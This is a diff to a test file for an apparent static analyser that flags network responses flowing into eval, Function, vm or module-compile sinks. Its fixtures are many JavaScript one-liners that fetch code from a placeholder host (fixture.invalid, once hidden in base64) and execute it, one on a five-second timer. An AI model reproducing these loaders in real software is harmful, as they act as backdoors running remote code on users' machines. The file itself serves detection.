@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { flowsOf, type Files } from '../../../test/support/analyse.ts';
+import { type Files, flowsOf } from '../../../test/support/analyse.ts';
 import type { Flow } from './flow.ts';
 
 const CODE = new Set(['eval', 'function-constructor', 'vm', 'module-compile', 'timer-string']);
@@ -9,8 +9,11 @@ const HIDDEN = 'aHR0cHM6Ly9maXh0dXJlLmludmFsaWQvYQ==';
 async function codeFlows(files: Files, file: string): Promise<readonly Flow[]> {
   return (await flowsOf(files, file)).filter((flow) => CODE.has(flow.sink));
 }
-const kinds = (flows: readonly Flow[]): readonly string[] => [...new Set(flows.flatMap((flow) => flow.sources.map((source) => source.kind)))].sort();
-const addresses = (flows: readonly Flow[]): readonly string[] => [...new Set(flows.flatMap((flow) => flow.sources.flatMap((source) => source.addresses.map((one) => one.value))))];
+const kinds = (flows: readonly Flow[]): readonly string[] =>
+  [...new Set(flows.flatMap((flow) => flow.sources.map((source) => source.kind)))].sort();
+const addresses = (flows: readonly Flow[]): readonly string[] => [
+  ...new Set(flows.flatMap((flow) => flow.sources.flatMap((source) => source.addresses.map((one) => one.value)))),
+];
 
 const U = 'https://fixture.invalid/a';
 
@@ -24,24 +27,24 @@ const REPLIES: Readonly<Record<string, string>> = {
   'fetch json': `async function f() { const r = await fetch('${U}'); const j = await r.json(); return Function(j.code)(); } f();`,
   'fetch text chain': `fetch('${U}').then(r => r.text()).then(t => eval(t)).catch(() => {});`,
   'node-fetch through dynamic import': `const fetch = (...args) => import('node-fetch').then(({ default: f }) => f(...args)); fetch('${U}').then(r => r.text()).then(c => eval(c));`,
-  'got': `import got from 'got'; const b = await got('${U}').text(); new Function(b)();`,
+  got: `import got from 'got'; const b = await got('${U}').text(); new Function(b)();`,
   'request callback': `const request = require('request'); request('${U}', (err, res, body) => { eval(body) });`,
   'https.get accumulation': `const https = require('https'); https.get('${U}', (res) => { let d = ''; res.on('data', c => { d += c; }); res.on('end', () => { eval(d) }); });`,
   'http.request with options': `const https = require('https'); const q = https.request({ hostname: 'fixture.invalid', path: '/a' }, res => { const parts = []; res.on('data', c => parts.push(c)); res.on('end', () => new Function(Buffer.concat(parts).toString())()); }); q.end();`,
   'promise wrapper': `const https = require('https'); function load(u) { return new Promise((ok, no) => { https.get(u, r => { let s = ''; r.on('data', x => s += x); r.on('end', () => ok(s)); }).on('error', no); }); } load('${U}').then(c => eval(c));`,
   'module compile': `const axios = require('axios'); const Module = require('module'); axios.get('${U}').then(r => { const m = new Module('x'); m._compile(r.data, 'x.js'); });`,
-  'vm': `const vm = require('vm'); const axios = require('axios'); axios.post('${U}', { a: 1 }).then(r => vm.runInThisContext(r.data));`,
+  vm: `const vm = require('vm'); const axios = require('axios'); axios.post('${U}', { a: 1 }).then(r => vm.runInThisContext(r.data));`,
   'base64 address': `const axios = require('axios'); const src = atob('${HIDDEN}'); axios.get(src).then(r => eval(r.data));`,
   'decoded body': `const axios = require('axios'); axios.get('${U}').then(r => eval(Buffer.from(r.data, 'base64').toString('utf8')));`,
   'helper in class': `const axios = require('axios'); class Api { async pull(u) { const r = await axios.get(u); return r.data; } } const api = new Api(); api.pull('${U}').then(x => new Function(x)());`,
   'try and inverted status': `const axios = require('axios'); async function check() { try { const res = await axios.get('${U}'); if (res.data.status === 'error') { eval(res.data.message); } } catch (e) {} } setInterval(check, 5000);`,
-  'superagent': `const superagent = require('superagent'); superagent.get('${U}').set('x-secret-header', 'secret').end((e, res) => { eval(res.text) });`,
-  'undici': `import { request } from 'undici'; const { body } = await request('${U}'); eval(await body.text());`,
+  superagent: `const superagent = require('superagent'); superagent.get('${U}').set('x-secret-header', 'secret').end((e, res) => { eval(res.text) });`,
+  undici: `import { request } from 'undici'; const { body } = await request('${U}'); eval(await body.text());`,
   'eval alias': `const axios = require('axios'); const run = eval; axios.get('${U}').then(r => run(r.data));`,
   'indirect eval': `const axios = require('axios'); axios.get('${U}').then(r => (0, eval)(r.data));`,
   'global require alias': `global['r'] = require; const a = global['r']('axios'); a.get('${U}').then(r => eval(r.data));`,
   'setTimeout string': `fetch('${U}').then(r => r.text()).then(t => setTimeout('go(' + t + ')', 0));`,
-  'XMLHttpRequest': `const x = new XMLHttpRequest(); x.open('GET', '${U}'); x.onload = () => { eval(x.responseText) }; x.send();`,
+  XMLHttpRequest: `const x = new XMLHttpRequest(); x.open('GET', '${U}'); x.onload = () => { eval(x.responseText) }; x.send();`,
 };
 
 describe('one file: the answer of a request runs', () => {
@@ -112,11 +115,11 @@ const HONEST: Readonly<Record<string, string>> = {
   'webpack runtime': `var g = (function () { return this })() || new Function('return this')();`,
   'template engine': `exports.compile = (s) => { const body = 'return ' + JSON.stringify(s).replace(/x/g, 'y'); return new Function('data', body); };`,
   'test loader': `const fs = require('fs'), vm = require('vm'); module.exports = (f) => vm.runInThisContext(fs.readFileSync(f, 'utf8'), f);`,
-  'arguments': `const { exec } = require('child_process'); eval(process.argv[2]); exec('git ' + process.argv[3]);`,
+  arguments: `const { exec } = require('child_process'); eval(process.argv[2]); exec('git ' + process.argv[3]);`,
   'request beside eval': `const axios = require('axios'); axios.get('${U}').then(r => console.log(r.data)); eval('1 + 1');`,
   'status code only': `fetch('${U}').then(r => { const f = new Function('return ' + r.status); f(); });`,
   'global this': `const root = Function('return this')(); eval('require')('fs');`,
-  'interceptor': `const axios = require('axios'); axios.interceptors.response.use(r => r, e => Promise.reject(e)); const t = new Function('a', 'return a'); axios.get('${U}').then(t);`,
+  interceptor: `const axios = require('axios'); axios.interceptors.response.use(r => r, e => Promise.reject(e)); const t = new Function('a', 'return a'); axios.get('${U}').then(t);`,
 };
 
 describe('honest code', () => {
